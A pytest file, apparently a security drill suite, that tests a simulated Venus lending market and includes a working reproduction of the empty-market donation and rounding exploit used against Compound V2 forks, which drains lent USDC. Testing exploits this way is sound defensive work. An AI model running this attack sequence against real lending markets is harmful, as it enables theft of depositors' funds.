"""The Venus market lends and liquidates, and has the fault of Compound V2: an empty market can be inflated.

Hundred Finance in April 2023 and Sonne Finance in May 2024 lost to it, by a donation to a market of which
two of the smallest unit of its shares were left.
"""

from __future__ import annotations

import pytest

from guardrails.chain import Chain, Contract, Reverted
from guardrails.drill.upstream import packages
from guardrails.drill.upstream.venus import MANTISSA, MAX, Venus, VenusRefusal
from guardrails.drill.upstream.venus_market import Asset, deploy_token, deploy_venus
from guardrails.testing.actors import Actors

BTC, DOLLAR = 10**8, 10**6
LENT = 10_000_000 * DOLLAR
DONATION = 500 * BTC
SHARES_OF_A_BITCOIN = 50 * 10**8


@pytest.fixture
def tokens(chain: Chain, actors: Actors) -> dict[str, Contract]:
    deployer = actors.deployer
    return {
        "WBTC": deploy_token(chain, deployer, "WBTC", 8, 21_000_000 * BTC),
        "USDC": deploy_token(chain, deployer, "USDC", 6, 100_000_000_000 * DOLLAR),
    }


@pytest.fixture
def venus(chain: Chain, actors: Actors, tokens: dict[str, Contract]) -> Venus:
    """WBTC freshly listed and empty, USDC supplied by bob."""
    deployer, lender = actors.deployer, actors.bob
    assets = [Asset("WBTC", tokens["WBTC"], 8, 30_000, 70), Asset("USDC", tokens["USDC"], 6, 1, 80)]
    market = deploy_venus(chain, deployer, assets)
    for account in (lender, actors.alice, actors.attacker):
        tokens["USDC"].send("transfer", account, LENT, sender=deployer)
        tokens["WBTC"].send("transfer", account, DONATION, sender=deployer)
    market.supply("USDC", LENT, sender=lender)
    return market


def test_supply_borrow_repay_redeem(venus: Venus, actors: Actors, tokens: dict[str, Contract]) -> None:
    user, loan = actors.alice, 20_000 * DOLLAR
    venus.supply("WBTC", BTC, sender=user)
    assert venus.market("WBTC").call("balanceOf", user) == SHARES_OF_A_BITCOIN
    venus.enter("WBTC", sender=user)
    assert venus.liquidity(user) == (21_000 * MANTISSA, 0)

    venus.borrow("USDC", loan, sender=user)
    assert tokens["USDC"].call("balanceOf", user) == LENT + loan
    venus.chain.mine(1_000)
    owed = venus.debt("USDC", user)
    assert loan < owed < loan * 1_001 // 1_000

    venus.repay("USDC", MAX, sender=user)
    assert venus.debt("USDC", user) == 0
    venus.redeem("WBTC", SHARES_OF_A_BITCOIN, sender=user)
    assert tokens["WBTC"].call("balanceOf", user) == DONATION


def test_what_collateral_does_not_cover_is_refused(venus: Venus, actors: Actors) -> None:
    user = actors.alice
    venus.supply("WBTC", BTC, sender=user)
    with pytest.raises(Reverted, match="math error"):  # not entered: no collateral
        venus.borrow("USDC", DOLLAR, sender=user)
    venus.enter("WBTC", sender=user)
    with pytest.raises(Reverted, match="math error"):
        venus.borrow("USDC", 21_000 * DOLLAR + 1, sender=user)
    venus.borrow("USDC", 21_000 * DOLLAR, sender=user)
    with pytest.raises(Reverted, match="math error"):  # it covers the debt
        venus.redeem("WBTC", SHARES_OF_A_BITCOIN // 10, sender=user)


def test_a_fall_in_price_makes_a_position_liquidatable(
    venus: Venus, actors: Actors, tokens: dict[str, Contract]
) -> None:
    user, liquidator = actors.alice, actors.bob
    venus.supply("WBTC", BTC, sender=user)
    venus.enter("WBTC", sender=user)
    venus.borrow("USDC", 20_000 * DOLLAR, sender=user)
    tokens["USDC"].send("transfer", liquidator, 20_000 * DOLLAR, sender=actors.deployer)
    with pytest.raises(VenusRefusal, match="error code 3"):  # no shortfall
        venus.liquidate("USDC", user, 1_000 * DOLLAR, "WBTC", sender=liquidator)

    venus.set_price("WBTC", 25_000 * MANTISSA, admin=actors.deployer)

    venus.liquidate("USDC", user, 1_000 * DOLLAR, "WBTC", sender=liquidator)
    assert venus.market("WBTC").call("balanceOf", liquidator) == SHARES_OF_A_BITCOIN * 1_100 // 25_000


def test_only_the_administrator_administers(venus: Venus, actors: Actors) -> None:
    comptroller, market = venus.comptroller, venus.markets["WBTC"]
    with pytest.raises(Reverted, match="access denied"):
        comptroller.send("_setCollateralFactor", market, 0, sender=actors.attacker)
    with pytest.raises(Reverted, match="only admin"):
        venus.set_price("WBTC", 0, admin=actors.attacker)
    comptroller.send("_setCollateralFactor", market, 0, sender=actors.deployer)


def test_a_donation_to_an_empty_market_empties_the_other(
    venus: Venus, actors: Actors, tokens: dict[str, Contract]
) -> None:
    """The attack: two units of shares, a donation, a loan against one of them, the donation for the other."""
    thief, (wbtc, usdc) = actors.attacker, (tokens["WBTC"], tokens["USDC"])
    market = venus.market("WBTC")
    venus.supply("WBTC", 1_000_000, sender=thief)
    venus.redeem("WBTC", market.call("balanceOf", thief) - 2, sender=thief)
    assert (market.call("totalSupply"), wbtc.call("balanceOf", market.address)) == (2, 1)

    venus.enter("WBTC", sender=thief)
    wbtc.send("transfer", market.address, DONATION - 1, sender=thief)
    assert venus.liquidity(thief) == (10_500_000 * MANTISSA, 0)  # 70 % of 500 WBTC, for two units

    venus.borrow("USDC", 5_249_999 * DOLLAR, sender=thief)
    venus.redeem_underlying("WBTC", DONATION - 1, sender=thief)  # worth 1.99999… units: one is taken

    assert market.call("balanceOf", thief) == 1
    assert wbtc.call("balanceOf", thief) == DONATION - 1
    assert usdc.call("balanceOf", thief) == LENT + 5_249_999 * DOLLAR
    assert venus.liquidity(thief)[1] > 5_249_998 * MANTISSA  # nobody will ever repay that


def test_without_the_rounding_the_donation_stays(
    venus: Venus, actors: Actors, tokens: dict[str, Contract]
) -> None:
    """All of it back is two units, and they cover the debt."""
    thief = actors.attacker
    venus.supply("WBTC", 1_000_000, sender=thief)
    venus.redeem("WBTC", venus.market("WBTC").call("balanceOf", thief) - 2, sender=thief)
    venus.enter("WBTC", sender=thief)
    tokens["WBTC"].send("transfer", venus.markets["WBTC"], DONATION - 1, sender=thief)
    venus.borrow("USDC", 5_249_999 * DOLLAR, sender=thief)

    with pytest.raises(Reverted, match="math error"):
        venus.redeem_underlying("WBTC", DONATION, sender=thief)


def test_the_package_tells_its_version() -> None:
    assert packages.versions()[packages.VENUS] == "0.7.0"
